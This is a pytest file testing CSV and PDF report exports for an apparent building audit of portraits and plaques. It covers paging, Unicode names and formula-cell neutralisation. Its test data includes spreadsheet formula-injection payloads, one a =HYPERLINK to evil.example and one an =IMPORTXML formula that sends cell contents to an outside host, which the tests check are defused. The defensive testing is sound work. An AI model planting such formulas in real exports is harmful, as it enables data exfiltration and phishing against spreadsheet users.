"""CSV exports read back with Python's csv module (byte-order mark, one header row, ISO dates, formula cells
neutralised, non-ASCII names intact, streamed a page at a time), and the findings report for a period as PDF."""

from __future__ import annotations

import csv
import io
import re
import tracemalloc
import uuid

import pytest
from pypdf import PdfReader

from server import clock
from server.domain.findings.filters import Filters
from server.domain.reporting import exports, findings_report
from server.models import Finding
from server.reports import csv_rows

from .report_data import COUNTS, NOW, day, make_history

ISO_TIME = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$")


@pytest.fixture
async def history(people, monkeypatch):
    monkeypatch.setattr(clock, "now", lambda: NOW)
    return await make_history(people, findings=120)


def read(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith("attachment; filename=")
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark, for Excel
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


async def test_findings_csv(history, as_, monkeypatch):
    monkeypatch.setattr(exports, "PAGE", 7)  # many pages, so paging itself is exercised
    rows = read(await as_("committee").get("/api/reports/findings.csv"))
    assert list(rows[0]) == exports.FINDING_COLUMNS
    assert len(rows) == len(history.findings)
    by_id = {f["id"]: f for f in history.findings}
    assert {r["id"] for r in rows} == set(by_id)
    titles = {r["title"] for r in rows}
    for tricky in ("'=HYPERLINK(\"http://evil.example\",\"click\")", "'+1 caricature in the lobby",
                   "'-5 portraits unlabeled", "'@SUM(A1:A9) plaque", "'\tTabbed title", "'\rCarriage title",
                   "Portrait of Dr. Nguyễn Thị Ánh", "Zoë Ærøskøbing's plaque (Владимир)"):
        assert tricky in titles, tricky
    assert {r["building_name"] for r in rows} == {"Gordon Hall", "Countway Library", "Hôpital Saint-Éloi",
                                                  "Ørsted Pavilion"}
    assert "Salle Zoë" in {r["space_name"] for r in rows} and "ØRS" in {r["building_code"] for r in rows}
    for row in rows:
        f = by_id[row["id"]]
        assert ISO_TIME.match(row["created_at"]) and row["created_at"][:10] == day(f["created_at"]).isoformat()
        assert row["status"] == f["status"] and row["severity"] == f["severity"]
        assert row["due_date"] == (f["due_date"].isoformat() if f["due_date"] else "")
        assert row["verified_at"][:10] == (day(f["verified_at"]).isoformat() if f["verified_at"] else "")
        assert row["overdue"] == ("yes" if f["status"] in ("assigned", "in_progress") and f["due_date"] < NOW.date()
                                  else "no")
    verified = read(await as_("admin").get("/api/reports/findings.csv?status=verified&checklist=names-memorials"))
    assert len(verified) == sum(1 for f in history.findings if f["status"] == "verified"
                                and f["checklist"] == "names-memorials")


async def test_findings_csv_takes_a_dashboard_query(history, as_):
    committee = as_("committee")
    dashboard = (await committee.get("/api/dashboard")).json()
    for number in (dashboard["overdue"], dashboard["by_building"][0], dashboard["open_by_age"][2]):
        assert len(read(await committee.get(f"/api/reports/findings.csv?{number['query']}"))) == number["count"]


async def test_responses_csv(history, as_):
    rows = read(await as_("committee").get("/api/reports/responses.csv"))
    assert list(rows[0]) == exports.RESPONSE_COLUMNS
    assert len(rows) == sum(len(answers) for answers in history.answers.values())
    counts = [r for r in rows if r["item_id"] == "portrait-count"]
    assert counts and all(r["item_type"] == "count" and r["section"] == "Inventory of honorific images"
                          for r in counts)
    assert {r["answer"] for r in rows if r["item_id"] == "portrait-count-women"} >= {"unknown", "not_applicable"}
    assert all(ISO_TIME.match(r["updated_at"]) for r in rows)
    gordon = next(b for b in history.buildings if b["code"] == "GOR")
    mine = read(await as_("admin").get("/api/reports/responses.csv", params={"building": gordon["id"]}))
    assert {r["building_code"] for r in mine} == {"GOR"} and 0 < len(mine) < len(rows)
    bad = await as_("admin").get("/api/reports/responses.csv", params={"audit": str(uuid.uuid4())})
    assert bad.status_code == 422 and bad.json()["error"]["field"] == "audit"


async def test_notes_and_text_answers_are_neutralised_too(walk, as_):
    audit = await walk.plan()
    auditor = as_("auditor")
    response = await walk.answer(auditor, audit, walk.spaces[0], "remarks", "=IMPORTXML(CONCAT(\"http://x/\",A1))",
                                 note="@risk: Zoë said so")
    assert response.status_code == 201, response.text
    rows = read(await as_("committee").get("/api/reports/responses.csv", params={"audit": audit["id"]}))
    assert [(r["answer"], r["note"]) for r in rows] == [
        ("'=IMPORTXML(CONCAT(\"http://x/\",A1))", "'@risk: Zoë said so")]


async def test_inventory_csv(history, as_):
    committee = as_("committee")
    inventory = (await committee.get("/api/inventory")).json()
    rows = read(await committee.get("/api/reports/inventory.csv"))
    assert len(rows) == len(inventory["spaces"])
    assert list(rows[0])[:8] == ["campus", "building_code", "building_name", "floor", "room_number", "space_name",
                                 "space_kind", "audit_id"]
    assert [c for c in rows[0] if c.startswith("portrait-count")] == list(COUNTS)
    for row, space in zip(rows, inventory["spaces"], strict=True):
        assert row["space_name"] == space["name"] and row["audit_id"] == space["current"]["audit"]["id"]
        for item in COUNTS:
            c = space["current"]["counts"][item]
            assert row[item] == (str(c["total"]) if c["answered"] else "unknown" if c["unknown"] else "")
        assert row["previous_audit_id"] == (space["previous"]["audit"]["id"] if space["previous"] else "")


async def test_findings_report_pdf(history, as_, monkeypatch):
    committee = as_("committee")
    gordon = next(b for b in history.buildings if b["code"] == "HSE")
    params = {"building": gordon["id"], "from": "2025-06-01", "to": "2026-06-15"}
    response = await committee.get("/api/reports/findings.pdf", params=params)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/pdf"
    reader = PdfReader(io.BytesIO(response.content))
    text = "\n".join(page.extract_text() for page in reader.pages)
    mine = [f for f in history.findings if f["building"] == gordon["id"] and f["status"] != "withdrawn"]
    assert len(mine) > 10 and f"Findings {len(mine)}" in text
    assert "HSE · Hôpital Saint-Éloi" in text and "Jun 1, 2025 to Jun 15, 2026" in text
    flat = re.sub(r"\s+", " ", text)
    for f in mine:  # every title is printed (a long one may wrap inside its cell)
        assert re.sub(r"\s+", " ", f["title"]).strip() in flat, f["title"]
    monkeypatch.setattr(findings_report, "MAX_FINDINGS", 5)
    too_many = await committee.get("/api/reports/findings.pdf")
    assert too_many.status_code == 422 and "findings.csv" in too_many.json()["error"]["message"]


async def _export_peak() -> tuple[int, int, int]:
    tracemalloc.start()
    size = chunks = 0
    try:
        async for chunk in csv_rows.stream(exports.FINDING_COLUMNS, exports.finding_rows(Filters())):
            size, chunks = size + len(chunk), chunks + 1
        return size, chunks, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


async def test_thousands_of_findings_stream_a_page_at_a_time(people, walk, monkeypatch):
    """2,000 findings export holding a page of rows at a time: a fraction of the memory that reading them all
    at once takes. Pages are made smaller than the server's 1,000 rows so the file spans 20 of them (the same
    code as at 100,000 findings; benchmarks/csv_export.py measures that size)."""
    audit = await walk.plan()
    rows = [Finding(audit_id=audit["id"], space_id=walk.spaces[n % 2]["id"], title=f"Finding number {n} " + "x" * 80,
                    description="A long enough description of what was seen. " * 3, severity="low", remedies=[],
                    photo_ids=[], created_by=people["auditor"].user) for n in range(2_000)]
    await Finding.bulk_create(rows, batch_size=1000)
    del rows
    monkeypatch.setattr(exports, "PAGE", 100)
    size, chunks, paged = await _export_peak()
    assert chunks > 2_000 / csv_rows.ROWS_PER_CHUNK and size > 600_000
    monkeypatch.setattr(exports, "PAGE", 2_000)  # every row read at once, for comparison
    same, _, at_once = await _export_peak()
    assert same == size and paged < at_once / 3, (paged, at_once)
